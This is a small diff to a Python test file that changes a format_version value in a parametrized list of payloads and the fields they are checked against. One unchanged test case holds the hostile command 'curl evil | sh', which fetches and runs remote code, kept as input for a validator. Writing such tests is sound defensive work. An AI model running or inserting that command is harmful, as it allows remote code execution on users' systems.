@@ -48,7 +48,7 @@ def test_valid_payloads_from_several_environments_are_read(tmp_path):
         ({"pull_request": True}, "pull_request"),
         ({"head_sha": "HEAD"}, "head_sha"),
         ({"environment": "prod -->"}, "environment"),
-        ({"format_version": 2}, "format_version"),
+        ({"format_version": 3}, "format_version"),
         ({"run": "curl evil | sh"}, "(root)"),
     ],
 )
